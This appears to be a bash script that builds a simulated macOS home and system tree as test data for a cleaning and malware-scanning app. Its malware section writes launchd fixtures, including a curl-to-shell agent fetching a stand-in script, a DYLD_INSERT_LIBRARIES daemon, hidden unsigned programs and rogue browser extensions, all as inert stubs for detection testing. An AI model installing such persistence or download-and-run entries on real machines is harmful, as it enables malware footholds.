#!/usr/bin/env bash
# Lays out a demonstration Mac in DIR: a system root with its Applications and a user's home with the
# folders the modules look at. Run it again to start from a fresh copy (the folder is replaced).
set -euo pipefail
if [ $# -ne 1 ] || [ -z "$1" ]; then
    echo "usage: $0 DIR" >&2
    exit 64
fi
root="$1"
case "$root" in
    /|/home|/root|/Users|"$HOME") echo "refusing to lay a demonstration Mac over $root" >&2; exit 64 ;;
esac
if [ -e "$root" ] && [ ! -f "$root/.quorvane-demo-mac" ]; then
    echo "$root exists and is not a demonstration Mac: choose another folder" >&2
    exit 65
fi
rm -rf -- "$root"
mkdir -p -- "$root"
touch "$root/.quorvane-demo-mac"
root="$(cd "$root" && pwd)"
home="$root/Users/demo"

mkdir -p "$root/System/Applications/Utilities" "$root/System/Library" "$root/Library/Application Support" \
         "$root/Library/Caches" "$root/Library/LaunchAgents" "$root/Library/LaunchDaemons" \
         "$root/private/var/folders/qp/T" "$root/private/tmp" "$root/usr/bin" "$root/bin" "$root/Volumes"
ln -s private/var "$root/var"
# The runtime folder of this user's session on the Mac, where scripts/launch.sh points XDG_RUNTIME_DIR: the
# program's one running copy on this Mac is found there.
mkdir -p "$root/private/var/run/quorvane-$(id -u)"
chmod 700 "$root/private/var/run/quorvane-$(id -u)"
ln -s private/tmp "$root/tmp"

mkdir -p "$home/Library/Caches" "$home/Library/Logs" "$home/Library/Preferences" \
         "$home/Library/Application Support" "$home/Library/Containers" \
         "$home/Desktop" "$home/Documents" "$home/Downloads" "$home/Applications" "$home/.Trash"
chmod 700 "$home/.Trash"

# make_app FOLDER NAME IDENTIFIER VERSION
make_app() {
    local bundle="$1/$2.app"
    mkdir -p "$bundle/Contents/MacOS" "$bundle/Contents/Resources"
    cat > "$bundle/Contents/Info.plist" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
    <key>CFBundleIdentifier</key>
    <string>$3</string>
    <key>CFBundleName</key>
    <string>$2</string>
    <key>CFBundleExecutable</key>
    <string>$2</string>
    <key>CFBundlePackageType</key>
    <string>APPL</string>
    <key>CFBundleShortVersionString</key>
    <string>$4</string>
</dict>
</plist>
PLIST
    printf '#!/bin/sh\nexit 0\n' > "$bundle/Contents/MacOS/$2"
    chmod 755 "$bundle/Contents/MacOS/$2"
    head -c 200000 /dev/zero > "$bundle/Contents/Resources/Assets.car"
}

make_app "$root/Applications" "Atelier Photo" "com.lumenlabs.atelierphoto" "3.2.1"
make_app "$root/Applications" "Carnet" "fr.carnet.app" "1.8"
make_app "$root/Applications" "Ondine" "io.ondine.player" "5.0.4"
make_app "$root/System/Applications" "Notes" "com.apple.Notes" "4.11"

# The application's own settings, as a user who has opened it once would have them.
# The home's path as it may stand inside XML and JSON text.
home_xml="$(printf '%s' "$home" | sed 's/&/\&amp;/g; s/</\&lt;/g; s/>/\&gt;/g')"
home_json="$(printf '%s' "$home" | sed 's/\\/\\\\/g; s/"/\\"/g')"
plist_header='<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
cat > "$home/Library/Preferences/com.ostrek.quorvanepro.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>showsMenuBarItem</key>
    <true/>
    <key>diskThreshold</key>
    <real>0.85</real>
</dict>
</plist>
PLIST

# The earlier product's folder and settings: the first start carries them over (the folder into
# "QuorvanePro", every setting not yet set here), so its exclusion and its schedule are in force at once,
# while the menu-bar choice already made here wins.
mkdir -p "$home/Downloads/À garder" "$home/Library/Application Support/Tessalinomark/Rapports"
head -c 300000 /dev/zero > "$home/Downloads/À garder/facture-2024.pdf"
cat > "$home/Library/Preferences/com.ostrek.tessalinomark.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>showsMenuBarItem</key>
    <false/>
    <key>scheduleInterval</key>
    <string>daily</string>
    <key>scheduleModule</key>
    <string>largeOldFiles</string>
    <key>lastScheduledRun</key>
    <date>2024-11-02T18:04:11Z</date>
    <key>exclusions</key>
    <array>
        <string>$home_xml/Downloads/À garder</string>
    </array>
    <key>NSWindow Frame MainWindow</key>
    <string>120 80 1100 720 0 0 1440 875</string>
    <key>AppleLanguages</key>
    <array>
        <string>fr-FR</string>
    </array>
</dict>
</plist>
PLIST
# The earlier product's journal, which the first run moves in. Beside its own entry it holds cleanings in
# every state the history window shows: files still in the Trash, put back, gone with an emptied Trash,
# deleted outright, a place filled again; a module this version does not know; a stamp whose snapshot still
# exists (its content is kept below, where mount_apfs finds it) and one whose snapshot macOS has removed.
snapshot_stamp="2024-11-20-093000"
cat > "$home/Library/Application Support/Tessalinomark/history.json" <<JSON
[
  {
    "date" : "2024-11-02T18:04:11Z",
    "failureCount" : 0,
    "files" : [
      {
        "bytes" : 48213504,
        "id" : "6F1C2A3B-4D5E-4F60-8A71-92B3C4D5E6F7",
        "originalPath" : "$home_json/Library/Caches/com.lumenlabs.atelierphoto",
        "restored" : false
      }
    ],
    "freedBytes" : 48213504,
    "id" : "0A1B2C3D-4E5F-4061-8273-94A5B6C7D8E9",
    "moduleID" : "systemJunk",
    "moduleTitle" : "Fichiers système"
  },
  {
    "date" : "2024-11-20T09:30:05Z",
    "failureCount" : 1,
    "files" : [
      {
        "bytes" : 180000,
        "id" : "11111111-2222-4333-8444-000000000001",
        "originalPath" : "$home_json/Documents/Facture ancienne.pdf",
        "restored" : false,
        "trashPath" : "$home_json/.Trash/Facture ancienne.pdf"
      },
      {
        "bytes" : 720000,
        "id" : "11111111-2222-4333-8444-000000000002",
        "originalPath" : "$home_json/Desktop/Vieux projet",
        "restored" : false,
        "trashPath" : "$home_json/.Trash/Vieux projet"
      },
      {
        "bytes" : 64000,
        "id" : "11111111-2222-4333-8444-000000000003",
        "originalPath" : "$home_json/Library/Logs/Atelier Photo/rendu-2024-11-19.log",
        "restored" : false
      },
      {
        "bytes" : 12000,
        "id" : "11111111-2222-4333-8444-000000000004",
        "originalPath" : "$home_json/Library/Caches/l'été/données d'aperçu.bin",
        "restored" : false
      },
      {
        "bytes" : 96000,
        "id" : "11111111-2222-4333-8444-000000000005",
        "originalPath" : "$home_json/Library/Caches/io.ondine.player/ancien.cache",
        "restored" : false,
        "trashPath" : "$home_json/.Trash/ancien.cache"
      },
      {
        "bytes" : 8000,
        "id" : "11111111-2222-4333-8444-000000000006",
        "originalPath" : "$home_json/Library/Caches/fr.carnet.app/remis.db",
        "restored" : true,
        "trashPath" : "$home_json/.Trash/remis.db"
      }
    ],
    "freedBytes" : 1080000,
    "id" : "0A1B2C3D-4E5F-4061-8273-94A5B6C7D801",
    "moduleID" : "systemJunk",
    "moduleTitle" : "Fichiers système",
    "snapshotStamp" : "$snapshot_stamp"
  },
  {
    "date" : "2024-10-05T08:15:00Z",
    "failureCount" : 2,
    "files" : [
      {
        "bytes" : 6148,
        "id" : "11111111-2222-4333-8444-000000000007",
        "originalPath" : "$home_json/Desktop/.DS_Store",
        "restored" : false,
        "trashPath" : "$home_json/.Trash/.DS_Store"
      },
      {
        "bytes" : 2500000,
        "id" : "11111111-2222-4333-8444-000000000008",
        "originalPath" : "$home_json/Library/Caches/io.ondine.player/artwork.cache",
        "restored" : false
      }
    ],
    "freedBytes" : 2506148,
    "id" : "0A1B2C3D-4E5F-4061-8273-94A5B6C7D802",
    "moduleID" : "ancienModule",
    "moduleTitle" : "Nettoyage express",
    "snapshotStamp" : "2024-10-05-081500"
  }
]
JSON
# What the snapshot of 20 November still holds for that cleaning, laid out like the data volume.
snapshot_content="$root/private/var/db/fake-snapshots/com.apple.TimeMachine.$snapshot_stamp.local"
mkdir -p "$snapshot_content${home#"$root"}/Library/Logs/Atelier Photo" \
         "$snapshot_content${home#"$root"}/Library/Caches/l'été"
printf 'rendu terminé\n' > "$snapshot_content${home#"$root"}/Library/Logs/Atelier Photo/rendu-2024-11-19.log"
chmod 640 "$snapshot_content${home#"$root"}/Library/Logs/Atelier Photo/rendu-2024-11-19.log"
head -c 12000 /dev/zero > "$snapshot_content${home#"$root"}/Library/Caches/l'été/données d'aperçu.bin"
mkdir -p "$root/private/var/db"
printf 'com.apple.TimeMachine.%s.local\n' "$snapshot_stamp" > "$root/private/var/db/tmutil-snapshots"
# A place emptied by that older cleaning and filled again since.
head -c 6148 /dev/zero > "$home/Desktop/.DS_Store"
printf 'Analyse du 2 novembre 2024 : 46 Mo récupérés.\n' \
    > "$home/Library/Application Support/Tessalinomark/Rapports/analyse-2024-11-02.txt"

# ---- What the system junk and Trash scanners find ---------------------------------------------------------
# fill FILE BYTES: a file whose content really takes room on disk (a sparse file would measure nothing).
fill() {
    mkdir -p "$(dirname "$1")"
    head -c "$2" /dev/zero > "$1"
}
lib="$home/Library"
# Application caches, some large and some tiny; the ones macOS keeps for itself are never offered.
fill "$lib/Caches/com.lumenlabs.atelierphoto/Previews/aperçus.db" 6000000
fill "$lib/Caches/com.lumenlabs.atelierphoto/Thumbnails/vignette 1.png" 300000
fill "$lib/Caches/io.ondine.player/artwork.cache" 2500000
fill "$lib/Caches/fr.carnet.app/Cache.db" 4096
fill "$lib/Caches/fr.carnet.app/Cache.db-wal" 512
fill "$lib/Caches/.thumbnail-index" 2048
fill "$lib/Caches/CloudKit/records.db" 200000
fill "$lib/Caches/com.apple.Safari.SafeBrowsing/Rules.db" 100000
# Logs and crash reports.
fill "$lib/Logs/Ondine/player.log" 250000
fill "$lib/Logs/Carnet.log" 30000
fill "$lib/DiagnosticReports/Ondine-2024-05-02-101500.ips" 20000
fill "$lib/Application Support/CrashReporter/Carnet_0A1B2C3D.plist" 4000
# Developer-tool caches.
fill "$lib/Developer/Xcode/DerivedData/Carnet-bqfxkdhzwtnpmo/Build/Intermediates.noindex/Carnet.o" 4000000
fill "$home/.npm/_cacache/content-v2/sha512/3f/a1/9c0d" 900000
fill "$lib/Caches/Homebrew/downloads/wget--1.21.4.bottle.tar.gz" 1500000
fill "$lib/Caches/pip/http/v2/wheel.body" 300000
# Temporary files: the user's temporary folder, and what the Finder leaves in TemporaryItems.
fill "$root/private/var/folders/qp/T/com.lumenlabs.atelierphoto/render-0001.tmp" 2000000
fill "$root/private/var/folders/qp/T/ondine-upgrade.log" 8000
fill "$lib/Caches/TemporaryItems/Atelier Photo export.tmp" 40000
# Installers: disk images and packages in Downloads (an archive there is not one), a software update.
fill "$home/Downloads/Ondine-5.0.4.dmg" 3000000
fill "$home/Downloads/CarnetInstaller.pkg" 1200000
fill "$home/Downloads/photos-vacances.zip" 500000
fill "$home/Downloads/Anciens/Atelier-3.1.dmg" 800000
fill "$lib/Updates/091-12345/Info.plist" 6000
# Saved application states.
fill "$lib/Saved Application State/fr.carnet.app.savedState/windows.plist" 8000
fill "$lib/Saved Application State/io.ondine.player.savedState/data.data" 16000
# The Trash: files, a folder, a hidden file.
fill "$home/.Trash/Facture ancienne.pdf" 180000
fill "$home/.Trash/Vieux projet/notes.txt" 20000
fill "$home/.Trash/Vieux projet/maquette.png" 700000
fill "$home/.Trash/.DS_Store" 6148
# A mounted volume with a trash of its own for this user, and one without any trash.
fill "$root/Volumes/Sauvegarde/.Trashes/$(id -u)/ancienne-sauvegarde/bands/0" 2500000
fill "$root/Volumes/Sauvegarde/Photos 2019/IMG_0001.jpg" 400000
mkdir -p "$root/Volumes/Clé USB/Documents"
# ---- end of the scanners' findings --------------------------------------------------------------------------

# ---- What the personal-file modules find ------------------------------------------------------------------
# random FILE BYTES: a file of its own content, so that no two files meant to differ are taken for copies.
random() {
    mkdir -p "$(dirname "$1")"
    head -c "$2" /dev/urandom > "$1"
}
# large FILE BYTES: a large file that really takes its room, reserved at once where the file system can.
large() {
    mkdir -p "$(dirname "$1")"
    if ! fallocate -l "$2" -- "$1" 2>/dev/null; then
        head -c "$2" /dev/zero > "$1"
    fi
}
MiB=1048576
# Mail: the Attachments folders of mailboxes (two in INBOX, one in a mailbox nested in another), one outside
# any mailbox, an empty one, a file named Attachments and a lower-case folder; files opened from messages.
account="$lib/Mail/V10/4F8B2C1E-compte-personnel"
fill "$account/INBOX.mbox/A1B2C3D4/Data/Attachments/1042/2/facture-mars.pdf" 180000
fill "$account/INBOX.mbox/A1B2C3D4/Data/1/Attachments/988/3/photo-chantier.jpg" 450000
fill "$account/Projets.mbox/Clients.mbox/C3D4E5F6/Data/Attachments/77/2/devis.pdf" 120000
fill "$lib/Mail/V10/MailData/Attachments/signature.png" 30000
mkdir -p "$account/Archives.mbox/E5F6A7B8/Data/Attachments"
fill "$account/Brouillons.mbox/Attachments" 2000
fill "$account/Envoyés.mbox/F7A8B9C0/Data/attachments/brouillon.txt" 9000
fill "$lib/Containers/com.apple.mail/Data/Library/Mail Downloads/2B6D9E01/Contrat signé.pdf" 260000
fill "$lib/Containers/com.apple.mail/Data/Library/Mail Downloads/plan d'accès.png" 70000
# Duplicates: three copies of a report with different dates (the oldest in Documents); a hard-linked pair
# with no third copy; a near copy equal in its first and last 64 KiB; an identical pair under 1 MiB; copies
# where no search goes (a node_modules folder, an application bundle).
report="$home/Documents/Rapport annuel 2023.pdf"
random "$report" $((3 * MiB))
cp "$report" "$home/Downloads/Rapport annuel 2023.pdf"
cp "$report" "$home/Desktop/Rapport annuel 2023 copie.pdf"
touch -d '2023-03-10 09:00' "$report"
touch -d '2023-05-02 18:30' "$home/Downloads/Rapport annuel 2023.pdf"
touch -d '2024-01-15 11:15' "$home/Desktop/Rapport annuel 2023 copie.pdf"
random "$home/Documents/Photos/IMG_2041.HEIC" $((2 * MiB))
ln "$home/Documents/Photos/IMG_2041.HEIC" "$home/Desktop/IMG_2041.HEIC"
random "$home/Documents/Maquettes/affiche-v1.psd" $((4 * MiB))
cp "$home/Documents/Maquettes/affiche-v1.psd" "$home/Documents/Maquettes/affiche-v2.psd"
printf 'retouche' | dd of="$home/Documents/Maquettes/affiche-v2.psd" bs=1 seek=$((2 * MiB)) conv=notrunc 2>/dev/null
random "$home/Documents/logo.png" 500000
cp "$home/Documents/logo.png" "$home/Downloads/logo.png"
mkdir -p "$home/Documents/Projet web/node_modules/rapport" "$home/Downloads/Visionneuse.app/Contents/Resources"
cp "$report" "$home/Documents/Projet web/node_modules/rapport/exemple.pdf"
cp "$report" "$home/Downloads/Visionneuse.app/Contents/Resources/exemple.pdf"
# Large files: one of each kind at or above 50 MiB, each of its own size (the last exactly at the threshold);
# a sparse file that takes nothing; large files where the walk does not go (Pictures, node_modules).
large "$home/Documents/Films/Tournage brut.mov" $((64 * MiB))
large "$home/Documents/Archives/Sauvegarde photos 2022.zip" $((58 * MiB))
large "$home/Documents/Machines virtuelles/Debian 12.iso" $((72 * MiB))
large "$home/Music/Enregistrements/Concert.wav" $((55 * MiB))
large "$home/Documents/Maquettes/Catalogue.psd" $((52 * MiB))
large "$home/Documents/Données/export.sqlite" $((50 * MiB))
truncate -s $((512 * MiB)) "$home/Documents/Machines virtuelles/Disque vide.img"
large "$home/Pictures/Diaporama mariage.mov" $((80 * MiB))
large "$home/Documents/Projet web/node_modules/binaire/moteur.node" $((66 * MiB))
# Privacy: Safari's history, site data and downloads list; Chrome's default profile and its cache; one
# Firefox profile and a stray file beside it; recent items, shell histories, the persistent pasteboard.
fill "$lib/Safari/History.db" 400000
fill "$lib/Safari/Databases/___IndexedDB/v1/https_www.example.fr_0/base.sqlite3" 120000
fill "$lib/Safari/Downloads.plist" 3000
chrome="$lib/Application Support/Google/Chrome/Default"
fill "$chrome/History" 600000
fill "$chrome/Cookies" 90000
fill "$chrome/Top Sites" 40000
fill "$lib/Caches/Google/Chrome/Default/Cache/Cache_Data/data_1" 3500000
fill "$lib/Application Support/Firefox/Profiles/x7k2p9qa.default-release/places.sqlite" 5000000
fill "$lib/Application Support/Firefox/Profiles/x7k2p9qa.default-release/cookies.sqlite" 500000
fill "$lib/Application Support/Firefox/Profiles/notes.txt" 200
fill "$lib/Application Support/com.apple.sharedfilelist/com.apple.LSSharedFileList.RecentDocuments.sfl2" 8000
printf 'cd ~/Documents\nls -la\ngit status\n' > "$home/.zsh_history"
: > "$home/.bash_history"
fill "$lib/Caches/com.apple.pboard/pboard-data" 20000
# ---- end of what the personal-file modules find -----------------------------------------------------------

# ---- Where files come from: download origins, and the data of installed and removed applications ---------
# set_attribute FILE NAME VALUE: an extended attribute of the file itself ("0x…" for raw bytes). Where the file
# system keeps none, the Mac is laid out all the same, only without download origins and last uses.
attributes_warned=
set_attribute() {
    if ! setfattr -h -n "$2" -v "$3" -- "$1" 2>/dev/null && [ -z "$attributes_warned" ]; then
        echo "note: no extended attributes here; the demonstration files record no download origin" >&2
        attributes_warned=1
    fi
}
# Recorded as the Mac records them: binary property lists under com.apple.metadata.
#   Ondine-5.0.4.dmg   kMDItemWhereFroms ("https://www.ondine.io/telechargements/Ondine-5.0.4.dmg",
#                                         "https://www.ondine.io/")
#   facture-2024.pdf   kMDItemWhereFroms ("Courriel de la Banque Exemple",
#                                         "https://www.banque-exemple.fr/espace-client/factures/2024.pdf")
#   brouillon          kMDItemLastUsedDate 2024-03-14 09:30:00 UTC
set_attribute "$home/Downloads/Ondine-5.0.4.dmg" "user.com.apple.metadata:kMDItemWhereFroms" \
    0x62706c6973743030a201025f103668747470733a2f2f7777772e6f6e64696e652e696f2f74656c656368617267656d656e74732f4f6e64696e652d352e302e342e646d675f101668747470733a2f2f7777772e6f6e64696e652e696f2f080b44000000000000010100000000000000030000000000000000000000000000005d
set_attribute "$home/Downloads/À garder/facture-2024.pdf" "user.com.apple.metadata:kMDItemWhereFroms" \
    0x62706c6973743030a201025f101d436f75727269656c206465206c612042616e717565204578656d706c655f103d68747470733a2f2f7777772e62616e7175652d6578656d706c652e66722f6573706163652d636c69656e742f66616374757265732f323032342e706466080b2b000000000000010100000000000000030000000000000000000000000000006b
# As a browser on this machine records a download.
set_attribute "$home/Downloads/photos-vacances.zip" "user.xdg.origin.url" \
    "https://www.partage-exemple.fr/s/vacances-2024/photos-vacances.zip"

# Installed: Atelier Photo, Ondine and Carnet in /Applications, Lumen Sync in the home's own Applications.
make_app "$home/Applications" "Lumen Sync" "com.lumenlabs.sync" "2.0"
fill "$lib/Application Support/com.lumenlabs.atelierphoto/Bibliothèque.db" 1200000
fill "$lib/Application Support/com.lumenlabs.sync/état.json" 6000
fill "$lib/Containers/io.ondine.player/Data/Library/Preferences/io.ondine.player.plist" 2000
fill "$lib/Group Containers/group.fr.carnet.app/Carnets/notes.sqlite" 300000
cat > "$lib/Preferences/com.lumenlabs.atelierphoto.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>LastExportFolder</key>
    <string>$home_xml/Pictures</string>
</dict>
</plist>
PLIST
# Removed: Scribe (com.vellum.scribe) and Ardoise (net.ardoise.client) left their data behind.
fill "$lib/Application Support/com.vellum.scribe/Brouillons/brouillon-chapitre-3.md" 400000
set_attribute "$lib/Application Support/com.vellum.scribe/Brouillons/brouillon-chapitre-3.md" \
    "user.com.apple.metadata:kMDItemLastUsedDate" \
    0x62706c69737430303341c5d17d8c000000080000000000000101000000000000000100000000000000000000000000000011
cat > "$lib/Preferences/com.vellum.scribe.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>OpenDocuments</key>
    <array>
        <string>$home_xml/Documents/Roman/chapitre-3.scribe</string>
    </array>
</dict>
</plist>
PLIST
fill "$lib/Group Containers/ABCDE12345.com.vellum.shared/Modèles/lettre.scribetpl" 50000
fill "$lib/Containers/net.ardoise.client/Data/Library/Application Support/tableaux.db" 900000
# ---- end of where files come from ----------------------------------------------------------------------------

# ---- What the malware module finds -------------------------------------------------------------------------
# Signatures are records in "user.quorvane.codesign" ("<authority> <sha256 of the content>"); a download from the
# Internet carries "user.com.apple.quarantine". Without extended attributes every program reads as unsigned and
# only what scores without a signature is found.
# sign FILE AUTHORITY: signs the file's present content.
sign() {
    set_attribute "$1" "user.quorvane.codesign" "$2 $(sha256sum -- "$1" | cut -d' ' -f1)"
}
# program FILE: a small executable.
program() {
    mkdir -p "$(dirname "$1")"
    printf '#!/bin/sh\n# %s\nexit 0\n' "$(basename "$1")" > "$1"
    chmod 755 "$1"
}
# job PLIST LABEL: a launchd property list; the rest of its keys come on standard input, as XML.
job() {
    mkdir -p "$(dirname "$1")"
    {
        printf '%s\n<plist version="1.0">\n<dict>\n    <key>Label</key>\n    <string>%s</string>\n' "$plist_header" "$2"
        cat
        printf '</dict>\n</plist>\n'
    } > "$1"
}
xml() { printf '%s' "$1" | sed 's/&/\&amp;/g; s/</\&lt;/g; s/>/\&gt;/g'; }
agents="$lib/LaunchAgents"
root_xml="$(xml "$root")"

# The user's agents: Lumen Sync's own, signed (not listed); one whose label names a documented adware family
# (confirmed); a shell job that downloads and runs code (likely); an unsigned program with a generated name in
# a hidden folder of /Users/Shared, downloaded by a browser and waking every two minutes (likely).
sign "$home/Applications/Lumen Sync.app/Contents/MacOS/Lumen Sync" developerID
job "$agents/com.lumenlabs.sync.agent.plist" com.lumenlabs.sync.agent <<PLIST
    <key>Program</key>
    <string>$home_xml/Applications/Lumen Sync.app/Contents/MacOS/Lumen Sync</string>
    <key>RunAtLoad</key>
    <true/>
PLIST
program "$lib/Application Support/SearchMine/helper"
job "$agents/com.searchmine.helper.plist" com.searchmine.helper <<PLIST
    <key>ProgramArguments</key>
    <array>
        <string>$home_xml/Library/Application Support/SearchMine/helper</string>
        <string>--silent</string>
    </array>
    <key>RunAtLoad</key>
    <true/>
PLIST
job "$agents/fr.relais-maj.agent.plist" fr.relais-maj.agent <<PLIST
    <key>ProgramArguments</key>
    <array>
        <string>/bin/sh</string>
        <string>-c</string>
        <string>curl -fsSL https://relais-maj.example/u.sh | sh</string>
    </array>
    <key>RunAtLoad</key>
    <true/>
PLIST
hidden="$root/Users/Shared/.cache-9f2"
program "$hidden/a8f3c91e7d20"
set_attribute "$hidden/a8f3c91e7d20" "user.com.apple.quarantine" "0083;6750a1c2;Google Chrome;8F1E2D3C-4B5A-4968-8776-A5B4C3D2E1F0"
job "$agents/a8f3c91e7d20.plist" a8f3c91e7d20 <<PLIST
    <key>Program</key>
    <string>$(xml "$hidden")/a8f3c91e7d20</string>
    <key>StartInterval</key>
    <integer>120</integer>
PLIST

# Agents of every session: Ondine's, notarized (not listed); a weather helper changed after it was signed, waking
# every minute (suspicious).
sign "$root/Applications/Ondine.app/Contents/MacOS/Ondine" notarized
job "$root/Library/LaunchAgents/io.ondine.player.helper.plist" io.ondine.player.helper <<PLIST
    <key>ProgramArguments</key>
    <array>
        <string>$root_xml/Applications/Ondine.app/Contents/MacOS/Ondine</string>
        <string>--background</string>
    </array>
PLIST
program "$root/Library/Application Support/Tempo Meteo/tempod"
sign "$root/Library/Application Support/Tempo Meteo/tempod" developerID
printf '# patched\n' >> "$root/Library/Application Support/Tempo Meteo/tempod"
job "$root/Library/LaunchAgents/com.tempometeo.agent.plist" com.tempometeo.agent <<PLIST
    <key>Program</key>
    <string>$root_xml/Library/Application Support/Tempo Meteo/tempod</string>
    <key>StartInterval</key>
    <integer>60</integer>
PLIST

# Daemons: one of Apple's (not listed); one injecting a library with an unsigned program in /private/tmp
# (likely); one pointing to a missing program with a generated name (suspicious).
program "$root/System/Library/CoreServices/backupd-helper"
sign "$root/System/Library/CoreServices/backupd-helper" apple
job "$root/Library/LaunchDaemons/com.apple.backupd-helper.plist" com.apple.backupd-helper <<PLIST
    <key>Program</key>
    <string>$root_xml/System/Library/CoreServices/backupd-helper</string>
PLIST
program "$root/private/tmp/mediaupdated"
fill "$root/private/tmp/libmediahook.dylib" 20000
job "$root/Library/LaunchDaemons/com.mediaupdate.daemon.plist" com.mediaupdate.daemon <<PLIST
    <key>Program</key>
    <string>$root_xml/private/tmp/mediaupdated</string>
    <key>EnvironmentVariables</key>
    <dict>
        <key>DYLD_INSERT_LIBRARIES</key>
        <string>$root_xml/private/tmp/libmediahook.dylib</string>
    </dict>
    <key>RunAtLoad</key>
    <true/>
PLIST
job "$root/Library/LaunchDaemons/com.zxcvbnmqk.daemon.plist" com.zxcvbnmqk.daemon <<PLIST
    <key>Program</key>
    <string>$root_xml/Library/Application Support/Helpers/zxcvbnmqk</string>
    <key>KeepAlive</key>
    <true/>
PLIST

# A documented adware location.
fill "$root/Library/Application Support/MacKeeper/MacKeeper Helper" 300000
fill "$root/Library/Application Support/MacKeeper/Settings.plist" 2000

# Browser extensions. In Chrome's Default profile: one from the store (not listed), and one dropped by a
# preferences file that updates from a private server, named through its _locales (likely). In Brave's:
# one from the store that updates privately, reads every page and intercepts traffic in its version 10
# (likely), its version 9 still beside it.
# extension PROFILE ID VERSION MANIFEST-JSON
extension() {
    mkdir -p "$1/Extensions/$2/$3"
    printf '%s\n' "$4" > "$1/Extensions/$2/$3/manifest.json"
    fill "$1/Extensions/$2/$3/background.js" 40000
}
chrome="$lib/Application Support/Google/Chrome/Default"
extension "$chrome" aapocclcgogkmnckokdopfmhonfmgoek 0.10_1 \
    '{"name": "Diapositives", "version": "0.10.1", "update_url": "https://clients2.google.com/service/update2/crx", "permissions": ["storage"]}'
extension "$chrome" kbmfpngjjgdllneeigpgjifpgocmfgmb 3.1.0_0 \
    '{"name": "__MSG_extName__", "version": "3.1.0", "default_locale": "fr", "update_url": "https://maj.coupons-express.example/update.xml", "permissions": ["tabs", "storage"]}'
mkdir -p "$chrome/Extensions/kbmfpngjjgdllneeigpgjifpgocmfgmb/3.1.0_0/_locales/en"
printf '{"extname": {"message": "Coupons Express"}}\n' \
    > "$chrome/Extensions/kbmfpngjjgdllneeigpgjifpgocmfgmb/3.1.0_0/_locales/en/messages.json"
cat > "$chrome/Preferences" <<JSON
{"extensions": {"settings": {
  "aapocclcgogkmnckokdopfmhonfmgoek": {"location": 1, "state": 1},
  "kbmfpngjjgdllneeigpgjifpgocmfgmb": {"location": 2, "state": 1}
}}, "profile": {"name": "Personne 1"}}
JSON
brave="$lib/Application Support/BraveSoftware/Brave-Browser/Profile 1"
extension "$brave" hdokiejnpimakedhajhdlcegeplioahd 9.4.1_0 \
    '{"name": "Onglets Malins", "version": "9.4.1", "update_url": "https://clients2.google.com/service/update2/crx", "permissions": ["tabs"]}'
extension "$brave" hdokiejnpimakedhajhdlcegeplioahd 10.0.2_0 \
    '{"name": "Onglets Malins", "version": "10.0.2", "update_url": "https://cdn.onglets-malins.example/crx", "permissions": ["tabs", "webRequest", "webRequestBlocking"], "host_permissions": ["<all_urls>"]}'
cat > "$brave/Preferences" <<JSON
{"extensions": {"settings": {"hdokiejnpimakedhajhdlcegeplioahd": {"location": 1, "state": 1}}}}
JSON

# A browser's settings imposed by a configuration profile, and the profile in the store the profiles tool reads.
mkdir -p "$root/Library/Managed Preferences" "$root/private/var/db/ConfigurationProfiles/Store"
cat > "$root/Library/Managed Preferences/com.google.Chrome.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>HomepageLocation</key>
    <string>https://recherche-rapide.example/</string>
    <key>DefaultSearchProviderSearchURL</key>
    <string>https://recherche-rapide.example/q?s={searchTerms}</string>
</dict>
</plist>
PLIST
cat > "$root/private/var/db/ConfigurationProfiles/Store/com.recherche-rapide.settings.mobileconfig" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>PayloadIdentifier</key>
    <string>com.recherche-rapide.settings</string>
    <key>PayloadDisplayName</key>
    <string>Recherche Rapide</string>
    <key>PayloadType</key>
    <string>Configuration</string>
</dict>
</plist>
PLIST
# ---- end of what the malware module finds --------------------------------------------------------------------

# ---- Applications and their traces: data of removed applications, installer receipts, a running application --
# Scribe and Ardoise, above, are gone with all their data, their team's group container included. Retouche, a
# removed application of Lumen Labs, whose other applications stay installed, left its cache and window state.
fill "$lib/Caches/com.lumenlabs.retouche/Rendus/aperçu-0001.bin" 700000
fill "$lib/Saved Application State/com.lumenlabs.retouche.savedState/windows.plist" 12000
# The same publisher written with other capitals: to the system a different one.
cat > "$lib/Preferences/Com.LumenLabs.Capture.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>CaptureFolder</key>
    <string>$home_xml/Desktop</string>
</dict>
</plist>
PLIST
# Graveur, installed in a folder of its own inside /Applications, keeps its data: it is no leftover.
make_app "$root/Applications/Outils de gravure" "Graveur" "org.graveur.desktop" "1.4"
fill "$lib/Application Support/org.graveur.desktop/projets.db" 150000
# What is not offered: an empty folder left behind, and the system's own settings.
mkdir -p "$lib/Application Support/net.vide.notes"
cat > "$lib/Preferences/com.apple.dock.plist" <<PLIST
$plist_header
<plist version="1.0">
<dict>
    <key>autohide</key>
    <true/>
</dict>
</plist>
PLIST

# The package database of private/var/db/receipts, as the pkgutil stand-in reads it: the package that installed
# Ondine (its bundle, a support folder and a command-line tool), an Apple package, an undated package and one
# whose files are gone. receipt ID VERSION LOCATION INSTALL-TIME FILE…
receipts="$root/private/var/db/receipts"
mkdir -p "$receipts"
receipt() {
    local id="$1" version="$2" location="$3" time="$4"
    shift 4
    {
        printf 'package-id: %s\nversion: %s\nvolume: /\nlocation: %s\n' "$id" "$version" "$location"
        if [ -n "$time" ]; then printf 'install-time: %s\n' "$time"; fi
    } > "$receipts/$id.info"
    printf '%s\n' "$@" > "$receipts/$id.files"
}
fill "$root/Library/Application Support/Ondine/Codecs/flac.codec" 120000
fill "$root/usr/local/bin/ondine" 40000
receipt io.ondine.player.pkg 5.0.4 / 1714640100 \
    Applications/Ondine.app/Contents/Info.plist Applications/Ondine.app/Contents/MacOS/Ondine \
    Applications/Ondine.app/Contents/Resources/Assets.car \
    "Library/Application Support/Ondine/Codecs/flac.codec" usr/local/bin/ondine
